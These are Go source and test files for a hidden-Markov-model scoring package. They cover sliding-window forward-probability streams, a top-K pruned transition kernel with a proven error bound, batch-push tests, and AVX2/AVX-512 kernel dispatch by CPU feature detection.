			t.Fatalf("pruned LogProbBound: %v", err)
		}
		if math.IsInf(bound, 1) {
			continue // vacuous bound: nothing to check, but must be reported as such
		}
		if math.IsInf(approx, -1) != math.IsInf(exact, -1) {
			t.Fatalf("trial %d: approx=%v exact=%v with finite bound %v", trial, approx, exact, bound)
		}
		if diff := math.Abs(approx - exact); diff > bound+1e-9*(1+math.Abs(exact)) {
			t.Fatalf("trial %d (n=%d k=%d): |approx-exact| = %g exceeds bound %g", trial, n, k, diff, bound)
		}
		checked++
	}
	if checked < 20 {
		t.Fatalf("only %d informative trials — bound is vacuous too often", checked)
	}
}

// coveringK returns the smallest per-row budget that keeps at least 1-delta
// of every transition row's mass.
func coveringK(m *Model, delta float64) int {
	k := 1
	row := make([]float64, m.N)
	for i := 0; i < m.N; i++ {
		copy(row, m.A[i])
		sort.Sort(sort.Reverse(sort.Float64Slice(row)))
		var mass float64
		for j, v := range row {
			mass += v
			if mass >= 1-delta {
				if j+1 > k {
					k = j + 1
				}
				break
			}
		}
	}
	return k
}

// TestTopKStreamBound runs the same property through the incremental
// sliding-window path: every completed window's pruned score must sit within
// LastBound of the exact batch recompute.
func TestTopKStreamBound(t *testing.T) {
	r := rand.New(rand.NewSource(29))
	for trial := 0; trial < 12; trial++ {
		n := 4 + r.Intn(40)
		m := NewRandom(n, 3+r.Intn(8), r.Int63())
		sharpen(m, r)
		m.Smooth(1e-6)
		k := coveringK(m, 1e-4)
		sp := m.NewScorerMode(ScorerTopK(k))
		se := m.NewScorer()
		w := 3 + r.Intn(10)
		st := sp.NewStream(w)

		obs := sampleObs(m, r, w+30)
		informative := 0
		for i, o := range obs {
			logp, done := st.Push(o)
			if !done {
				continue
			}
			bound := st.LastBound()
			if math.IsInf(bound, 1) {
				continue
			}
			informative++
			exact, err := se.LogProb(obs[i-w+1 : i+1])
			if err != nil {
				t.Fatalf("exact LogProb: %v", err)
			}
			if diff := math.Abs(logp - exact); diff > bound+1e-9*(1+math.Abs(exact)) {
				t.Fatalf("trial %d window@%d (n=%d k=%d): |%v-%v| = %g exceeds bound %g",
					trial, i, n, k, logp, exact, diff, bound)
			}
		}
		if informative == 0 {
			t.Errorf("trial %d (n=%d k=%d): every window bound was vacuous", trial, n, k)
		}
	}
}

// TestTopKFullK: k >= N keeps every entry, so the pruned kernel reproduces
// the exact kernel up to the rounding of the keptMass renormalisation, and
// the reported bound collapses to that rounding level.
func TestTopKFullK(t *testing.T) {
	r := rand.New(rand.NewSource(31))
	m := NewRandom(20, 6, 1)
	sp := m.NewScorerMode(ScorerTopK(100))
	se := m.NewScorer()
	obs := make([]int, 40)
	for i := range obs {
		obs[i] = r.Intn(m.M)
	}
	approx, bound, err := sp.LogProbBound(obs)
	if err != nil {
		t.Fatal(err)
	}
	if bound > 1e-10 {
		t.Errorf("full-k bound = %v, want ~rounding level", bound)
	}
	exact, _ := se.LogProb(obs)
	if math.Abs(approx-exact) > 1e-9 {
		t.Errorf("full-k approx = %v, exact = %v", approx, exact)
	}
}

// TestExactModeBoundIsZero: exact streams always report a zero bound.
func TestExactModeBoundIsZero(t *testing.T) {
	m := NewRandom(10, 4, 2)
	st := m.NewScorer().NewStream(5)
	r := rand.New(rand.NewSource(5))
	for i := 0; i < 30; i++ {
		if _, done := st.Push(r.Intn(m.M)); done && st.LastBound() != 0 {
			t.Fatalf("exact LastBound = %v", st.LastBound())
		}
	}
}

// TestPushBatchMatchesPush: folding a stream in arbitrary chunks yields
// bitwise the same completed-window scores, bounds, and completion counts as
// per-symbol pushes, in both modes.
func TestPushBatchMatchesPush(t *testing.T) {
	r := rand.New(rand.NewSource(37))
	for _, mode := range []ScorerMode{ScorerExact, ScorerTopK(4)} {
		for trial := 0; trial < 10; trial++ {
			n := 3 + r.Intn(40)
			m := NewRandom(n, 3+r.Intn(8), r.Int63())
			s := m.NewScorerMode(mode)
			w := 2 + r.Intn(8)
			ref := s.NewStream(w)
			bat := s.NewStream(w)

			obs := make([]int, w+40)
			for i := range obs {
				obs[i] = r.Intn(m.M)
			}

			type win struct{ score, bound float64 }
			var want []win
			for _, o := range obs {
				if logp, done := ref.Push(o); done {
					want = append(want, win{logp, ref.LastBound()})
				}
			}

			var got []win
			scores := make([]float64, len(obs))
			bounds := make([]float64, len(obs))
			for lo := 0; lo < len(obs); {
				hi := lo + 1 + r.Intn(9)
				if hi > len(obs) {
					hi = len(obs)
				}
				chunk := obs[lo:hi]
				done := bat.PushBatch(chunk, scores[:len(chunk)], bounds[:len(chunk)])
				if done < 0 || done > len(chunk) {
					t.Fatalf("PushBatch returned %d for chunk of %d", done, len(chunk))
				}
				for i := len(chunk) - done; i < len(chunk); i++ {
					got = append(got, win{scores[i], bounds[i]})
				}
				lo = hi
			}

			if len(got) != len(want) {
				t.Fatalf("mode %v: %d batched windows, want %d", mode, len(got), len(want))
			}
			for i := range want {
				if got[i] != want[i] {
					t.Fatalf("mode %v window %d: batch %+v, per-call %+v", mode, i, got[i], want[i])
				}
			}
		}
	}
}

// TestPushBatchArgChecks: undersized outputs and bad symbols panic rather
// than silently truncating.
func TestPushBatchArgChecks(t *testing.T) {
	m := NewRandom(4, 3, 9)
	st := m.NewScorer().NewStream(3)
	if n := st.PushBatch(nil, nil, nil); n != 0 {
		t.Errorf("empty PushBatch = %d", n)
	}
	mustPanic := func(name string, f func()) {
		t.Helper()
		defer func() {
			if recover() == nil {
				t.Errorf("%s did not panic", name)
			}
		}()
		f()
	}
	mustPanic("short scores", func() { st.PushBatch([]int{0, 1}, make([]float64, 1), nil) })
	mustPanic("short bounds", func() { st.PushBatch([]int{0, 1}, make([]float64, 2), make([]float64, 1)) })
	mustPanic("bad symbol", func() { st.PushBatch([]int{0, 3}, make([]float64, 2), nil) })
}
