package hmm

import (
	"fmt"
	"math"
)

// Scorer is an immutable, read-optimised scoring view of a Model, shared by
// any number of concurrent StreamScorers. It stores A transposed and flattened
// so the forward recursion's inner product over the predecessor states walks
// contiguous memory (Model.A's column traversal strides by N), and copies Pi
// and B so later mutation of the Model (further training) cannot race with
// detection.
type Scorer struct {
	n, m int
	pi   []float64
	at   []float64 // at[j*n+i] = A[i][j]
	b    []float64 // b[i*m+k] = B[i][k]
}

// NewScorer snapshots the model into a scoring view. The view is safe for
// concurrent use and never mutated.
func (m *Model) NewScorer() *Scorer {
	s := &Scorer{
		n:  m.N,
		m:  m.M,
		pi: append([]float64(nil), m.Pi...),
		at: make([]float64, m.N*m.N),
		b:  make([]float64, m.N*m.M),
	}
	for i := 0; i < m.N; i++ {
		for j := 0; j < m.N; j++ {
			s.at[j*m.N+i] = m.A[i][j]
		}
		copy(s.b[i*m.M:(i+1)*m.M], m.B[i])
	}
	return s
}

// N returns the number of hidden states of the underlying model.
func (s *Scorer) N() int { return s.n }

// M returns the number of observation symbols of the underlying model.
func (s *Scorer) M() int { return s.m }

// StreamScorer scores every sliding window (step 1, fixed length) of one call
// stream incrementally. It maintains the scaled forward variables of all
// windows currently open — a ring of W forward vectors, one per in-flight
// window — so each pushed symbol advances every open window in a single fused
// pass over the transposed transition matrix: the model is traversed once per
// call (O(N²) memory traffic) instead of once per window position as a batch
// LogProb recompute would (O(W·N²)), and the hot path performs zero
// allocations. The arithmetic replays Model.LogProb's operation order exactly,
// so completed-window scores are bit-identical to the batch forward pass.
//
// A StreamScorer belongs to one session/stream and is not safe for concurrent
// use; the Scorer behind it is shared freely.
type StreamScorer struct {
	s *Scorer
	w int // window length

	// Ring state. Slot (t mod w) holds the window started at time t; the
	// window started at t completes at t+w-1. alphas/next are w×n flattened.
	alphas []float64
	next   []float64
	logs   []float64 // accumulated log scale factors per slot
	lens   []int     // symbols folded into each slot's window (0 = free)
	dead   []bool    // slot hit a zero scale: window probability is 0

	count int // symbols pushed since the last reset
}

// NewStream returns a fresh incremental scorer over sliding windows of length
// window.
func (s *Scorer) NewStream(window int) *StreamScorer {
	if window <= 0 {
		panic(fmt.Sprintf("hmm: stream window %d", window))
	}
	return &StreamScorer{
		s:      s,
		w:      window,
		alphas: make([]float64, window*s.n),
		next:   make([]float64, s.n),
		logs:   make([]float64, window),
		lens:   make([]int, window),
		dead:   make([]bool, window),
	}
}

// WindowLen returns the configured sliding-window length.
func (st *StreamScorer) WindowLen() int { return st.w }

// Reset clears all in-flight windows; the next Push starts a new stream.
func (st *StreamScorer) Reset() {
	for i := range st.lens {
		st.lens[i] = 0
		st.dead[i] = false
		st.logs[i] = 0
	}
	st.count = 0
}

// Push folds one observation symbol into the stream. When the push completes
// a window (the stream has seen at least WindowLen symbols), it returns that
// window's exact log probability log P(o_{t-w+1..t} | λ) and done=true;
// during warm-up it returns done=false. Symbols outside [0, M) panic — the
// caller encodes labels through the profile alphabet, which cannot produce
// one.
func (st *StreamScorer) Push(obs int) (logp float64, done bool) {
	n := st.s.n
	if obs < 0 || obs >= st.s.m {
		panic(fmt.Sprintf("hmm: stream symbol %d out of range [0,%d)", obs, st.s.m))
	}

	// Advance every open window by obs in one fused pass: for each
	// destination state j, the row at[j*n:] is loaded once and applied to
	// all open forward vectors. Operation order per window matches
	// Model.LogProb exactly (i ascending inside the dot product, j ascending
	// for the scale sum).
	for slot := 0; slot < st.w; slot++ {
		if st.lens[slot] == 0 || st.dead[slot] {
			if st.dead[slot] {
				st.lens[slot]++
			}
			continue
		}
		alpha := st.alphas[slot*n : (slot+1)*n]
		var scale float64
		for j := 0; j < n; j++ {
			row := st.s.at[j*n : (j+1)*n]
			var sum float64
			for i := 0; i < n; i++ {
				sum += alpha[i] * row[i]
			}
			v := sum * st.s.b[j*st.s.m+obs]
			st.next[j] = v
			scale += v
		}
		if scale == 0 {
			st.dead[slot] = true
			st.logs[slot] = math.Inf(-1)
		} else {
			st.logs[slot] += math.Log(scale)
			inv := 1 / scale
			for j := 0; j < n; j++ {
				alpha[j] = st.next[j] * inv
			}
		}
		st.lens[slot]++
	}

	// Open the window that starts at this symbol. Its slot was freed when the
	// window w steps older completed on the previous push.
	slot := st.count % st.w
	alpha := st.alphas[slot*n : (slot+1)*n]
	var scale float64
	for i := 0; i < n; i++ {
		v := st.s.pi[i] * st.s.b[i*st.s.m+obs]
		alpha[i] = v
		scale += v
	}
	if scale == 0 {
		st.dead[slot] = true
		st.logs[slot] = math.Inf(-1)
	} else {
		st.dead[slot] = false
		st.logs[slot] = math.Log(scale)
		inv := 1 / scale
		for i := 0; i < n; i++ {
			alpha[i] *= inv
		}
	}
	st.lens[slot] = 1
	st.count++

	// The oldest open window completes once the stream is w symbols deep.
	if st.count < st.w {
		return 0, false
	}
	doneSlot := st.count % st.w // window started at count-w, reused next push
	logp = st.logs[doneSlot]
	st.lens[doneSlot] = 0
	st.dead[doneSlot] = false
	return logp, true
}

// Partial returns the log probability and length of the window covering the
// whole stream since the last reset, valid only while the stream is still
// shorter than the window length (the detection engine's final short-window
// judgement). Once a full window has completed it returns (0, 0).
func (st *StreamScorer) Partial() (logp float64, length int) {
	if st.count == 0 || st.count >= st.w {
		return 0, 0
	}
	// While count < w no slot has been reused, so the stream-covering window
	// opened by the first push since Reset still lives in slot 0.
	return st.logs[0], st.count
}
