package hmm

import (
	"fmt"
	"math"
	"sort"
	"sync"
)

// ScorerMode selects the transition kernel a Scorer is built with. The zero
// value is ScorerExact; ScorerTopK(k) opts into the pruned approximate
// kernel. The type is comparable, so modes key caches directly.
type ScorerMode struct {
	k int
}

// ScorerExact is the default mode: the full transition matrix, bit-identical
// to the batch Model.LogProb forward pass.
var ScorerExact = ScorerMode{}

// ScorerTopK returns the approximate mode keeping only the k largest entries
// of each transition row, renormalised to unit mass. Scores carry a sound
// per-window error bound (see StreamScorer.LastBound). k <= 0 panics; k >= N
// behaves like a renormalisation-free exact kernel but still reports a zero
// bound through the pruned code path.
func ScorerTopK(k int) ScorerMode {
	if k <= 0 {
		panic(fmt.Sprintf("hmm: ScorerTopK(%d)", k))
	}
	return ScorerMode{k: k}
}

// Exact reports whether the mode is the exact kernel.
func (m ScorerMode) Exact() bool { return m.k == 0 }

// TopK returns the per-row entry budget of an approximate mode, 0 for exact.
func (m ScorerMode) TopK() int { return m.k }

// String returns "exact" or "topk:<k>".
func (m ScorerMode) String() string {
	if m.k == 0 {
		return "exact"
	}
	return fmt.Sprintf("topk:%d", m.k)
}

// Scorer is an immutable, read-optimised scoring view of a Model, shared by
// any number of concurrent StreamScorers. The model is flattened into
// contiguous slabs built once here:
//
//	pi   initial distribution
//	a    row-major transitions a[i*np+j] = A[i][j], each row zero-padded to
//	     np = roundup16(n) columns so the vector kernels run unmasked
//	     full-width blocks (padded columns contribute exactly +0.0; see
//	     kernel.go)
//	at   transposed transitions at[j*n+i] = A[i][j] (the scalar fallback's
//	     contiguous inner reduction, unpadded)
//	bt   per-symbol emission columns bt[o*np+i] = B[i][o], zero-padded like
//	     a, so scoring symbol o multiplies one contiguous column view
//
// In ScorerTopK mode the kernel instead walks a CSR-style pruned matrix
// (tIdx/tVal): row i keeps its k largest entries renormalised to unit mass,
// and wmax/dmax parameterise the per-window error bound. Copies mean later
// mutation of the Model (further training) cannot race with detection.
type Scorer struct {
	n, m int
	np   int // n rounded up to a multiple of 16: padded row stride
	mode ScorerMode
	pi   []float64
	a    []float64
	at   []float64
	bt   []float64

	// Pruned kernel (ScorerTopK): row i keeps entries tVal[i*k:(i+1)*k] at
	// destination states tIdx[i*k:(i+1)*k] (ascending). wmax and dmax
	// parameterise the per-window error bound (see the ρ recurrence in
	// LogProbBound): wmax[o] = max_i Σ_j A_ij·B_j[o] bounds how one
	// transition-then-emission step amplifies accumulated error mass, and
	// dmax[o] = max_i Σ_j |A_ij−Â_ij|·B_j[o] bounds the new error a step
	// injects, where Â is the renormalised pruned matrix.
	k    int
	tIdx []int32
	tVal []float64
	wmax []float64
	dmax []float64

	batch sync.Pool // *batchScratch for Scorer.LogProb
}

type batchScratch struct {
	alpha, next []float64
}

// NewScorer snapshots the model into an exact scoring view. The view is safe
// for concurrent use and never mutated.
func (m *Model) NewScorer() *Scorer { return m.NewScorerMode(ScorerExact) }

// NewScorerMode snapshots the model into a scoring view built for the given
// mode.
func (m *Model) NewScorerMode(mode ScorerMode) *Scorer {
	np := (m.N + 15) &^ 15
	s := &Scorer{
		n:    m.N,
		m:    m.M,
		np:   np,
		mode: mode,
		pi:   append([]float64(nil), m.Pi...),
		a:    make([]float64, m.N*np),
		at:   make([]float64, m.N*m.N),
		bt:   make([]float64, m.M*np),
	}
	for i := 0; i < m.N; i++ {
		for j := 0; j < m.N; j++ {
			s.a[i*np+j] = m.A[i][j]
			s.at[j*m.N+i] = m.A[i][j]
		}
		for o := 0; o < m.M; o++ {
			s.bt[o*np+i] = m.B[i][o]
		}
	}
	if !mode.Exact() {
		s.buildTopK(m, mode.TopK())
	}
	return s
}

// buildTopK prunes each transition row to its k largest entries (ties broken
// toward the lower destination state, so the pruned matrix is deterministic),
// renormalises the kept mass, and precomputes the error-bound parameters.
func (s *Scorer) buildTopK(m *Model, k int) {
	if k > m.N {
		k = m.N
	}
	s.k = k
	s.tIdx = make([]int32, m.N*k)
	s.tVal = make([]float64, m.N*k)
	idx := make([]int, m.N)
	arow := make([]float64, m.N) // pruned row, dense, for the bound params
	s.wmax = make([]float64, m.M)
	s.dmax = make([]float64, m.M)
	for i := 0; i < m.N; i++ {
		row := m.A[i]
		for j := range idx {
			idx[j] = j
		}
		sort.SliceStable(idx, func(a, b int) bool { return row[idx[a]] > row[idx[b]] })
		kept := idx[:k]
		sort.Ints(kept)
		var keptMass float64
		for _, j := range kept {
			keptMass += row[j]
		}
		clear(arow)
		base := i * k
		for t, j := range kept {
			s.tIdx[base+t] = int32(j)
			if keptMass > 0 {
				s.tVal[base+t] = row[j] / keptMass
			}
			arow[j] = s.tVal[base+t]
		}
		// Error-bound parameters, per observation symbol: the amplification
		// wmax[o] = max_i Σ_j A_ij·B_j[o] and the injected error
		// dmax[o] = max_i Σ_j |A_ij − Â_ij|·B_j[o].
		for o := 0; o < m.M; o++ {
			var w, d float64
			for j := 0; j < m.N; j++ {
				b := m.B[j][o]
				w += row[j] * b
				d += math.Abs(row[j]-arow[j]) * b
			}
			if w > s.wmax[o] {
				s.wmax[o] = w
			}
			if d > s.dmax[o] {
				s.dmax[o] = d
			}
		}
	}
}

// N returns the number of hidden states of the underlying model.
func (s *Scorer) N() int { return s.n }

// M returns the number of observation symbols of the underlying model.
func (s *Scorer) M() int { return s.m }

// Mode returns the kernel mode the view was built with.
func (s *Scorer) Mode() ScorerMode { return s.mode }

// bcol returns the contiguous zero-padded emission column of symbol o
// (np entries; only the first n are live).
func (s *Scorer) bcol(o int) []float64 { return s.bt[o*s.np : o*s.np+s.np] }

// stepPruned advances one forward vector through the pruned transition
// matrix by scattering each source state's kept entries, then applies the
// emission column. Ordering is fixed (ascending i, ascending kept j), so
// approximate scores are deterministic.
func (s *Scorer) stepPruned(alpha, bcol, next []float64) float64 {
	alpha, next = alpha[:s.n], next[:s.n]
	clear(next)
	k := s.k
	for i, ai := range alpha {
		if ai == 0 {
			continue
		}
		base := i * k
		for t := 0; t < k; t++ {
			next[s.tIdx[base+t]] += ai * s.tVal[base+t]
		}
	}
	return emitScale(next, bcol)
}

// LogProb returns log P(obs | λ) for one window using the mode's kernel and
// pooled buffers; in exact mode the result is bit-identical to
// Model.LogProb. Symbols outside [0, M) return ErrSymbols.
func (s *Scorer) LogProb(obs []int) (float64, error) {
	ll, _, err := s.LogProbBound(obs)
	return ll, err
}

// LogProbBound additionally returns the score's error bound: 0 in exact
// mode, otherwise a sound bound on |logP_exact − logP_pruned| (+Inf when the
// pruned mass underflowed to an uninformative zero).
//
// The bound tracks ρ_t, a bound on the ℓ1 error of the unnormalised forward
// mass relative to the pruned window probability F̂_t. With f/f̂ the exact
// and pruned unnormalised forward vectors and e_t = ‖f_t − f̂_t‖₁,
//
//	e_{t+1} ≤ wmax[o_{t+1}]·e_t + dmax[o_{t+1}]·F̂_t
//
// (the first term pushes the accumulated error through one exact
// transition-then-emission step, the second is the error the pruned rows
// inject). Dividing by F̂_{t+1} = ŝ_{t+1}·F̂_t gives the per-step update
// ρ_{t+1} = (wmax·ρ_t + dmax)/ŝ_{t+1} with ρ_1 = 0 (the π step is exact).
// At the end of the window |F − F̂| ≤ ρ·F̂ yields
// |log F − log F̂| ≤ −log(1−ρ) for ρ < 1.
func (s *Scorer) LogProbBound(obs []int) (logp, bound float64, err error) {
	if len(obs) == 0 {
		return 0, 0, nil
	}
	sc, _ := s.batch.Get().(*batchScratch)
	if sc == nil {
		// Both buffers are np-sized: they swap roles every step and the vector
		// kernels store into all np padded lanes.
		sc = &batchScratch{alpha: make([]float64, s.np), next: make([]float64, s.np)}
	}
	defer s.batch.Put(sc)
	alpha, next := sc.alpha, sc.next

	o := obs[0]
	if o < 0 || o >= s.m {
		return 0, 0, fmt.Errorf("%w: %d", ErrSymbols, o)
	}
	copy(alpha, s.pi)
	scale := emitScale(alpha[:s.n], s.bcol(o))
	if scale == 0 {
		return math.Inf(-1), 0, nil
	}
	logL := math.Log(scale)
	inv := 1 / scale
	for i := range alpha[:s.n] {
		alpha[i] *= inv
	}

	var rho float64
	for t := 1; t < len(obs); t++ {
		o = obs[t]
		if o < 0 || o >= s.m {
			return 0, 0, fmt.Errorf("%w: %d", ErrSymbols, o)
		}
		bc := s.bcol(o)
		if s.mode.Exact() {
			scale = s.step(alpha, bc, next)
		} else {
			scale = s.stepPruned(alpha, bc, next)
		}
		if scale == 0 {
			if s.mode.Exact() {
				return math.Inf(-1), 0, nil
			}
			// The pruned pass lost all mass; the exact score may be finite.
			return math.Inf(-1), math.Inf(1), nil
		}
		if !s.mode.Exact() {
			rho = (s.wmax[o]*rho + s.dmax[o]) / scale
		}
		logL += math.Log(scale)
		inv = 1 / scale
		for j := range next[:s.n] {
			next[j] *= inv
		}
		alpha, next = next, alpha
	}
	sc.alpha, sc.next = alpha, next
	return logL, boundFromRho(rho), nil
}

// boundFromRho converts the tracked relative mass error ρ (|F−F̂| ≤ ρ·F̂)
// into a two-sided log-score bound: max(−log(1−ρ), log(1+ρ)) = −log(1−ρ),
// or +Inf once ρ ≥ 1 and the bound is vacuous.
func boundFromRho(rho float64) float64 {
	if rho <= 0 {
		return 0
	}
	if rho >= 1 {
		return math.Inf(1)
	}
	return -math.Log1p(-rho)
}

// StreamScorer scores every sliding window (step 1, fixed length) of one call
// stream incrementally. It maintains the scaled forward variables of all
// windows currently open — a ring of W forward vectors, one per in-flight
// window — so each pushed symbol advances every open window in a single fused
// pass over the flat transition slab: the model is traversed once per call
// (O(N²) memory traffic, or O(N·K) pruned) instead of once per window
// position as a batch LogProb recompute would, and the hot path performs zero
// allocations. In exact mode the arithmetic replays the canonical forward
// order exactly (kernel.go), so completed-window scores are bit-identical to
// Model.LogProb.
//
// A StreamScorer belongs to one session/stream and is not safe for concurrent
// use; the Scorer behind it is shared freely.
type StreamScorer struct {
	s *Scorer
	w int // window length

	// Ring state. Slot (t mod w) holds the window started at time t; the
	// window started at t completes at t+w-1. alphas is w×n flattened.
	alphas []float64
	next   []float64 // scratch shared by all slots
	logs   []float64 // accumulated log scale factors per slot
	rhos   []float64 // accumulated relative mass error per slot (topk)
	lens   []int     // symbols folded into each slot's window (0 = free)
	dead   []bool    // slot hit a zero scale: window probability is 0

	count     int     // symbols pushed since the last reset
	lastBound float64 // error bound of the most recent completed window
}

// NewStream returns a fresh incremental scorer over sliding windows of length
// window.
func (s *Scorer) NewStream(window int) *StreamScorer {
	if window <= 0 {
		panic(fmt.Sprintf("hmm: stream window %d", window))
	}
	return &StreamScorer{
		s:      s,
		w:      window,
		alphas: make([]float64, window*s.n),
		next:   make([]float64, s.np), // vector kernels store all padded lanes
		logs:   make([]float64, window),
		rhos:   make([]float64, window),
		lens:   make([]int, window),
		dead:   make([]bool, window),
	}
}

// WindowLen returns the configured sliding-window length.
func (st *StreamScorer) WindowLen() int { return st.w }

// Mode returns the kernel mode of the underlying Scorer.
func (st *StreamScorer) Mode() ScorerMode { return st.s.mode }

// Reset clears all in-flight windows; the next Push starts a new stream.
func (st *StreamScorer) Reset() {
	for i := range st.lens {
		st.lens[i] = 0
		st.dead[i] = false
		st.logs[i] = 0
		st.rhos[i] = 0
	}
	st.count = 0
	st.lastBound = 0
}

// LastBound returns the error bound of the window completed by the most
// recent Push (or, after PushBatch, its last completing symbol): 0 in exact
// mode, otherwise a sound bound on how far the pruned log score can sit from
// the exact one. +Inf marks a window whose pruned mass underflowed to zero.
func (st *StreamScorer) LastBound() float64 { return st.lastBound }

// Push folds one observation symbol into the stream. When the push completes
// a window (the stream has seen at least WindowLen symbols), it returns that
// window's window log probability log P(o_{t-w+1..t} | λ) and done=true;
// during warm-up it returns done=false. Symbols outside [0, M) panic — the
// caller encodes labels through the profile alphabet, which cannot produce
// one.
func (st *StreamScorer) Push(obs int) (logp float64, done bool) {
	if obs < 0 || obs >= st.s.m {
		panic(fmt.Sprintf("hmm: stream symbol %d out of range [0,%d)", obs, st.s.m))
	}
	return st.push(obs)
}

// PushBatch folds a run of symbols into the stream in one call. For every
// index i whose push completed a window, scores[i] (and bounds[i], when
// non-nil) receive that window's log probability and error bound. Completed
// indices are the trailing max(0, returned) entries: once the stream is warm
// every push completes the window opened w−1 symbols earlier, so callers
// consume scores[len(obs)-completed:]. scores and bounds must be at least
// len(obs) long (bounds may be nil).
func (st *StreamScorer) PushBatch(obs []int, scores, bounds []float64) (completed int) {
	if len(obs) == 0 {
		return 0
	}
	if len(scores) < len(obs) {
		panic(fmt.Sprintf("hmm: PushBatch scores length %d < %d", len(scores), len(obs)))
	}
	if bounds != nil && len(bounds) < len(obs) {
		panic(fmt.Sprintf("hmm: PushBatch bounds length %d < %d", len(bounds), len(obs)))
	}
	for _, o := range obs {
		if o < 0 || o >= st.s.m {
			panic(fmt.Sprintf("hmm: stream symbol %d out of range [0,%d)", o, st.s.m))
		}
	}
	for i, o := range obs {
		logp, done := st.push(o)
		if done {
			scores[i] = logp
			if bounds != nil {
				bounds[i] = st.lastBound
			}
			completed++
		}
	}
	return completed
}

// push advances all open windows by one symbol, opens the window starting at
// it, and completes the oldest window once the stream is w symbols deep.
func (st *StreamScorer) push(obs int) (logp float64, done bool) {
	s := st.s
	n := s.n
	bc := s.bcol(obs)
	exact := s.mode.Exact()
	var wmaxO, dmaxO float64
	if !exact {
		wmaxO = s.wmax[obs]
		dmaxO = s.dmax[obs]
	}

	// Advance every open window by obs. Per window the arithmetic is the
	// canonical forward step (kernel.go), so exact-mode scores replay
	// Model.LogProb bit for bit.
	for slot := 0; slot < st.w; slot++ {
		if st.lens[slot] == 0 || st.dead[slot] {
			if st.dead[slot] {
				st.lens[slot]++
			}
			continue
		}
		alpha := st.alphas[slot*n : (slot+1)*n]
		var scale float64
		if exact {
			scale = s.step(alpha, bc, st.next)
		} else {
			scale = s.stepPruned(alpha, bc, st.next)
		}
		if scale == 0 {
			st.dead[slot] = true
			st.logs[slot] = math.Inf(-1)
			if !exact {
				// Pruning may have zeroed a possible path; the bound is
				// vacuous for this window.
				st.rhos[slot] = math.Inf(1)
			}
		} else {
			if !exact {
				st.rhos[slot] = (wmaxO*st.rhos[slot] + dmaxO) / scale
			}
			st.logs[slot] += math.Log(scale)
			inv := 1 / scale
			for j := 0; j < n; j++ {
				alpha[j] = st.next[j] * inv
			}
		}
		st.lens[slot]++
	}

	// Open the window that starts at this symbol. Its slot was freed when the
	// window w steps older completed on the previous push. The initial step
	// uses the unpruned Pi in both modes, so a fresh window starts error-free.
	slot := st.count % st.w
	alpha := st.alphas[slot*n : (slot+1)*n]
	copy(alpha, s.pi)
	scale := emitScale(alpha, bc)
	if scale == 0 {
		st.dead[slot] = true
		st.logs[slot] = math.Inf(-1)
	} else {
		st.dead[slot] = false
		st.logs[slot] = math.Log(scale)
		inv := 1 / scale
		for i := 0; i < n; i++ {
			alpha[i] *= inv
		}
	}
	st.rhos[slot] = 0
	st.lens[slot] = 1
	st.count++

	// The oldest open window completes once the stream is w symbols deep.
	if st.count < st.w {
		return 0, false
	}
	doneSlot := st.count % st.w // window started at count-w, reused next push
	logp = st.logs[doneSlot]
	st.lastBound = boundFromRho(st.rhos[doneSlot])
	st.lens[doneSlot] = 0
	st.dead[doneSlot] = false
	st.rhos[doneSlot] = 0
	return logp, true
}

// Partial returns the log probability and length of the window covering the
// whole stream since the last reset, valid only while the stream is still
// shorter than the window length (the detection engine's final short-window
// judgement). Once a full window has completed it returns (0, 0).
func (st *StreamScorer) Partial() (logp float64, length int) {
	if st.count == 0 || st.count >= st.w {
		return 0, 0
	}
	// While count < w no slot has been reused, so the stream-covering window
	// opened by the first push since Reset still lives in slot 0.
	return st.logs[0], st.count
}

// PartialBound returns the error bound accompanying Partial: 0 in exact mode
// or when no partial window exists.
func (st *StreamScorer) PartialBound() float64 {
	if st.count == 0 || st.count >= st.w {
		return 0
	}
	return boundFromRho(st.rhos[0])
}
