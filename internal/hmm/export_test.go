package hmm

// Test hooks: force a specific kernel dispatch level to cross-check the
// vector paths against the pure-Go fallback.

const (
	KernelGo     = kernelGo
	KernelAVX2   = kernelAVX2
	KernelAVX512 = kernelAVX512
)

// DetectedKernel reports the dispatch level chosen at init.
func DetectedKernel() int { return kernelLevel }

// ForceKernel overrides the dispatch level and returns a restore func. Only
// levels at or below the detected one are honoured (forcing AVX-512 on a
// machine without it would fault), so callers skip when it returns false.
func ForceKernel(level int) (restore func(), ok bool) {
	if level > DetectedKernel() {
		return func() {}, false
	}
	prev := kernelLevel
	kernelLevel = level
	return func() { kernelLevel = prev }, true
}
