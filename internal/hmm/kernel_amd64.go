//go:build amd64 && !purego

package hmm

// Vector kernels for the forward step. Both keep the canonical rounding
// order defined in kernel.go: lanes run across destination states j, the
// per-j reduction over i stays a single sequential multiply-then-add chain
// (no FMA), and the AVX-512 kernel accumulates the scale sum in one 8-lane
// register folded by the reduceLanes tree.

// dotEmitScaleAVX512 computes next = (alphaᵀA) ∘ bcol over the flat
// row-major transition slab a (n rows × np zero-padded columns) and returns
// the canonical scale sum. bcol and next must hold np entries.
//
//go:noescape
func dotEmitScaleAVX512(alpha, a, bcol, next *float64, n, np int) float64

// forwardDotsAVX2 computes next[j] = Σ_i alpha[i]·a[i*np+j] for all np padded
// destination states; the emission multiply and scale sum run in Go
// (emitScale).
//
//go:noescape
func forwardDotsAVX2(alpha, a, next *float64, n, np int)

// cpuidRaw executes CPUID with the given leaf/subleaf; xgetbv0 reads XCR0.
func cpuidRaw(leaf, subleaf uint32) (eax, ebx, ecx, edx uint32)
func xgetbv0() (eax, edx uint32)

var kernelLevel = detectKernel()

func detectKernel() int {
	maxLeaf, _, _, _ := cpuidRaw(0, 0)
	if maxLeaf < 7 {
		return kernelGo
	}
	_, _, c1, _ := cpuidRaw(1, 0)
	const osxsave = 1 << 27
	if c1&osxsave == 0 {
		return kernelGo
	}
	xlo, _ := xgetbv0()
	_, b7, _, _ := cpuidRaw(7, 0)
	const (
		avx2Bit    = 1 << 5
		avx512fBit = 1 << 16
		// XCR0: SSE|AVX state for AVX2; opmask|ZMM_Hi256|Hi16_ZMM on top
		// for AVX-512.
		avxState    = 0x6
		avx512State = 0xe0
	)
	if b7&avx512fBit != 0 && xlo&(avxState|avx512State) == avxState|avx512State {
		return kernelAVX512
	}
	if b7&avx2Bit != 0 && xlo&avxState == avxState {
		return kernelAVX2
	}
	return kernelGo
}
