//go:build !amd64 || purego

package hmm

var kernelLevel = kernelGo

// Stubs keep kernel.go's dispatch switch compiling on platforms without the
// vector kernels; kernelLevel never selects them here.

func dotEmitScaleAVX512(alpha, a, bcol, next *float64, n, np int) float64 {
	panic("hmm: AVX-512 kernel unavailable")
}

